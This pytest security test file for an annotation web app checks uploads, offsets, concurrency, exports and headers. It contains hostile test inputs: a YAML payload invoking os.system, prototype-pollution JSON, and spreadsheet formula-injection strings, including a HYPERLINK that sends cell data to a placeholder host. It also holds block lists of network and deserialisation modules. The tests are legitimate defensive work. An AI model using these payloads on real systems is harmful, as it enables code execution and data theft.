"""The bad-inputs checklist, items 15-40 (uploads, offsets, concurrency, export, errors).

Items 1-14 are in tests/test_bad_inputs.py; docs/security.md maps every item to its tests.
"""
# ruff: noqa: F811  (pytest fixtures imported from tests.web_fixtures are redefined as arguments)

import json
import re
import threading
from pathlib import Path

import pytest
from sqlalchemy import select

from annotator.codebook import load_codebook
from annotator.errors import InputError
from annotator.extensions import db
from annotator.formats import articles_jsonl
from annotator.models import Document, Paragraph
from tests.permissions import PERMISSIONS
from tests.test_api import own_layer, save, span
from tests.test_data_web import export, upload
from tests.test_routes import ids_for, seeded  # noqa: F401  (seeded: fixture)
from tests.web_fixtures import browser, world  # noqa: F401  (fixtures)

ROOT = Path(__file__).resolve().parents[1]


# -- D. uploads and import --------------------------------------------------------------------

ARTICLE = {"id": "enc", "text": "Café “quoted” costs 5 €.\n\nSecond paragraph."}


@pytest.mark.parametrize(("encoded", "problem"), [
    (("\ufeff" + json.dumps(ARTICLE, ensure_ascii=False)).encode("utf-8"), None),
    (json.dumps(ARTICLE, ensure_ascii=False).encode("utf-16"), None),
    (json.dumps(ARTICLE, ensure_ascii=False).encode("cp1252"), "line 1: not valid UTF-8"),
    ("".join(json.dumps({"id": f"l{i}", "text": "ok"}) + "\n" for i in range(399)).encode()
     + b'{"id": "bad", "text": "\xc3\x28"}\n', "line 400: not valid UTF-8 at byte"),
])
def test_15_encodings_are_decoded_or_refused_naming_the_line(browser, world, encoded, problem):
    response = upload(browser("managerM"), world.p1, [(encoded, "enc.jsonl")])
    if problem is None:
        assert response.status_code == 302
        first = db.session.execute(select(Paragraph.text).join(Document).where(
            Document.external_id == "enc", Paragraph.position == 0)).scalar_one()
        assert first == "Café “quoted” costs 5 €."  # no BOM, no mojibake
    else:
        assert response.status_code == 422 and problem in response.get_data(as_text=True)
        assert db.session.execute(select(Document.id).where(
            Document.external_id.in_(["enc", "l0"]))).first() is None


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\r"])
def test_16_spans_after_line_breaks_export_exactly_whatever_the_line_ends(browser, world,
                                                                         ending):
    text = ending.join(["First line", "second line", "", "After a blank line: Kyiv spoke."])
    manager = browser("managerM")
    assert upload(manager, world.p1, [(text, "breaks.txt")]).status_code == 302
    doc = db.session.execute(select(Document.id).where(Document.external_id == "breaks")
                             ).scalar_one()
    coder = browser("coderA")
    layer = own_layer(coder, doc)
    stored = [p.text for p in db.session.get(Document, doc).paragraphs]
    assert stored == ["First line\nsecond line", "After a blank line: Kyiv spoke."]
    start = stored[0].index("second")
    assert save(coder, layer, [span("s", start, start + 6, paragraph=0, text="second")]
                ).status_code == 200
    rows = [json.loads(line) for line in export(manager, world.p1, format="jsonl",
                                                layer="coderA").get_data(as_text=True).split("\n")
            if line]
    [row] = [r for r in rows if r["document"] == "breaks" and r["spans"]]
    assert row["text"][row["spans"][0][0]:row["spans"][0][1]] == "second"


def test_17_control_characters_are_kept_and_nul_or_lone_surrogates_refused(browser, world):
    kept = "a\x0bb\x1bc\u2028d\u2029e\ufefff"
    ok = json.dumps({"id": "ctl", "paragraphs": [kept]})
    assert upload(browser("managerM"), world.p1, [(ok + "\n", "ctl.jsonl")]).status_code == 302
    assert db.session.execute(select(Paragraph.text).join(Document).where(
        Document.external_id == "ctl")).scalar_one() == kept
    for bad, reason in (('{"id": "n", "text": "a\\u0000b"}', "NUL"),
                        ('{"id": "n", "text": "a\\ud800b"}', "lone surrogate")):
        refused = upload(browser("managerM"), world.p1, [(bad + "\n", "bad.jsonl")])
        assert refused.status_code == 422
        assert f"line 1: text contains a {reason}" in refused.get_data(as_text=True)


def test_21_too_many_parts_or_paragraphs_are_refused_clearly(browser, world, tmp_path):
    manager = browser("managerM")
    manager.refresh_token(f"/projects/{world.p1}/import")
    parts = "".join(f"--b\r\nContent-Disposition: form-data; name=f{i}\r\n\r\nx\r\n"
                    for i in range(5000)) + "--b--\r\n"
    flood = manager.client.post(f"/projects/{world.p1}/import", data=parts.encode(),
                                content_type="multipart/form-data; boundary=b")
    assert flood.status_code == 413
    huge = tmp_path / "huge.jsonl"
    huge.write_text(json.dumps({"id": "h", "paragraphs": ["p"] * 10_001}) + "\n")
    with pytest.raises(InputError, match="at most 10,000 are allowed"):
        list(articles_jsonl.read(huge))


def test_23_no_code_fetches_urls(app):
    sources = "\n".join(path.read_text() for path in (ROOT / "annotator").rglob("*.py"))
    for module in ("urllib.request", "requests", "httpx", "urlopen", "http.client", "aiohttp"):
        assert not re.search(rf"^\s*(import|from) {re.escape(module)}\b", sources, re.M), module


def test_24_no_unsafe_deserialisation(browser, world, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    sources = "\n".join(path.read_text() for path in (ROOT / "annotator").rglob("*.py"))
    assert not re.search(r"^\s*(import|from) (pickle|marshal|shelve|dill)\b", sources, re.M)
    assert "yaml.load(" not in sources and "yaml.unsafe_load" not in sources
    evil = tmp_path / "book.yaml"
    evil.write_text("!!python/object/apply:os.system ['touch pwned']\n")
    with pytest.raises(InputError, match="could not determine a constructor"):
        load_codebook(evil)  # safe_load builds no objects: it refuses the tag
    assert not (tmp_path / "pwned").exists()
    proto = json.dumps({"id": "proto", "text": "x", "__class__": "os.system",
                        "__proto__": {"admin": True}, "meta": {"__proto__": {"a": 1}}})
    manager = browser("managerM")
    assert upload(manager, world.p1, [(proto + "\n", "p.jsonl")]).status_code == 302
    assert upload(manager, world.p1, [(b"\x80\x04\x95pickle", "p.pkl")]).status_code == 422
    assert db.session.execute(select(Document.meta).where(Document.external_id == "proto")
                              ).scalar_one() == {"__proto__": {"a": 1}}


# -- E. spans and offsets ---------------------------------------------------------------------


def test_25_and_26_numbers_json_cannot_hold_and_duplicate_or_dangling_items_are_refused(
        browser, world):
    b = browser("coderA")
    layer = own_layer(b, world.doc1)
    url = f"/api/layers/{layer['layer']['id']}/changes"
    raw = ('{"change_id": "c", "base_version": 0, "changes": [{"op": "add_span", "span": '
           '{"id": "s", "paragraph": 0, "start": 0, "end": 1e309, "label": "ACTOR"}}]}')
    huge = b.client.post(url, data=raw, content_type="application/json",
                         headers=b.headers(True))
    assert huge.status_code == 422 and huge.get_json()["field"] == "span.end"
    assert save(b, layer, [span("a", 0, 7), span("b", 0, 7)]).get_json()["field"] == "span"
    dangling = save(b, layer, [span("a", 0, 7), {"op": "delete_span", "id": "a"},
                               {"op": "add_attribution", "attribution": {
                                   "id": "x", "source": ["a"]}}])
    assert dangling.status_code == 422 and dangling.get_json()["field"] == "attribution.source[0]"
    overlapping = save(b, layer, [span("a", 0, 7), span("b", 0, 7, label="LOCATION"),
                                  span("c", 0, 18, label="CONTENT"), span("d", 3, 12)])
    assert overlapping.status_code == 200  # overlap and nesting are allowed, as documented
    assert own_layer(b, world.doc1)["layer"]["version"] == 1


def test_29_whitespace_and_decomposed_text_are_stored_as_given_and_never_rewritten(
        browser, world):
    text = "  Cafe\u0301\t\tde  la\u00a0\u00a0paix  "
    line = json.dumps({"id": "ws", "paragraphs": [text]}) + "\n"
    manager = browser("managerM")
    assert upload(manager, world.p1, [(line, "ws.jsonl")]).status_code == 302
    stored = db.session.execute(select(Paragraph.text).join(Document).where(
        Document.external_id == "ws")).scalar_one()
    assert stored == text.strip()  # stripped at import, before any offset exists; no NFC
    again = upload(manager, world.p1, [(json.dumps({"id": "ws", "text": "other"}) + "\n",
                                        "ws.jsonl")])
    assert again.status_code == 422 and "already exists" in again.get_data(as_text=True)
    css = (ROOT / "static" / "css" / "annotate.css").read_text()
    assert re.search(r"white-space:\s*pre-wrap", css)


# -- F. concurrency and durability -------------------------------------------------------------


def test_34_sqlite_runs_with_wal_a_busy_timeout_and_immediate_write_transactions(app, browser,
                                                                                world):
    if db.engine.dialect.name != "sqlite":
        pytest.skip("SQLite settings")
    assert db.session.execute(db.text("PRAGMA journal_mode")).scalar() == "wal"
    assert db.session.execute(db.text("PRAGMA busy_timeout")).scalar() >= 5000
    begun = []
    listener = lambda conn, cursor, statement, *args: begun.append(statement)  # noqa: E731
    db.event.listen(db.engine, "before_cursor_execute", listener)
    try:
        b = browser("coderA")
        save(b, own_layer(b, world.doc1), [span("s", 0, 7)])
    finally:
        db.event.remove(db.engine, "before_cursor_execute", listener)
    assert "BEGIN IMMEDIATE" in begun and "BEGIN DEFERRED" in begun


def test_36_an_export_that_fails_half_way_leaves_no_file(app, world, tmp_path, monkeypatch):
    from annotator.formats import jsonl
    from annotator.models import Project
    from annotator.services.exporting import export_project

    def full_disk(record):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(jsonl, "rows", full_disk)
    folder = tmp_path / "exports"
    with pytest.raises(OSError):
        export_project(db.session.get(Project, world.p1), "jsonl", layer="all",
                       out=folder / "out")
    assert list(folder.iterdir()) == []


# -- G. export, H. errors and headers ---------------------------------------------------------


def test_37_formula_text_stays_byte_exact_in_json_exports(browser, world):
    formula = '=HYPERLINK("http://canary.invalid/?x="&A1,"x") and ＝1+1'
    line = json.dumps({"id": "f", "paragraphs": [formula, "+cmd|' /C calc'!A0"]}) + "\n"
    manager = browser("managerM")
    assert upload(manager, world.p1, [(line, "f.jsonl")]).status_code == 302
    records = [json.loads(x) for x in export(manager, world.p1).get_data(as_text=True).split(
        "\n") if x]
    [record] = [r for r in records if r["id"] == "f"]
    assert [p["text"] for p in record["paragraphs"]] == [formula, "+cmd|' /C calc'!A0"]


def test_38_a_streamed_export_does_not_hold_up_coders_saves(app, browser, world):
    manager, coder = browser("managerM"), browser("coderA")
    layer = own_layer(coder, world.doc1)
    manager.refresh_token(f"/projects/{world.p1}/export")
    stream = manager.client.post(f"/projects/{world.p1}/export", buffered=False, data={
        "format": "native", "layer": "", "csrf_token": manager.token})
    assert stream.is_streamed
    chunks = iter(stream.response)
    first = next(chunks)  # the export is under way, its read transaction open
    saved = {}

    def coder_saves():  # in another thread, as another request of a threaded server would be
        with app.app_context():
            saved["status"] = save(coder, layer, [span("s", 0, 7)]).status_code

    thread = threading.Thread(target=coder_saves)
    thread.start()
    thread.join(timeout=30)
    assert saved == {"status": 200}
    rest = b"".join(chunks)
    stream.close()
    assert json.loads(first)["id"] and rest


def test_40_every_page_sends_the_security_headers_and_no_debugger(app, browser, seeded,
                                                                 caplog):
    assert not app.debug
    b = browser("admin")
    for (endpoint, method), rules in PERMISSIONS.items():
        if method != "GET" or endpoint == "auth.login":
            continue
        ids = ids_for(seeded, "admin")
        headers = b.get(rules[0].url.format(**ids)).headers
        assert "unsafe-inline" not in headers["Content-Security-Policy"], endpoint
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], endpoint
        assert headers["X-Content-Type-Options"] == "nosniff", endpoint
        assert headers["X-Frame-Options"] == "DENY" and headers["Referrer-Policy"], endpoint
    assert b.get("/console").status_code == 404
    anonymous = browser()
    anonymous.client.post("/auth/login", data={"username": "coderA", "password": "hunter2-secret",
                                               "csrf_token": anonymous.token})
    assert "hunter2-secret" not in caplog.text
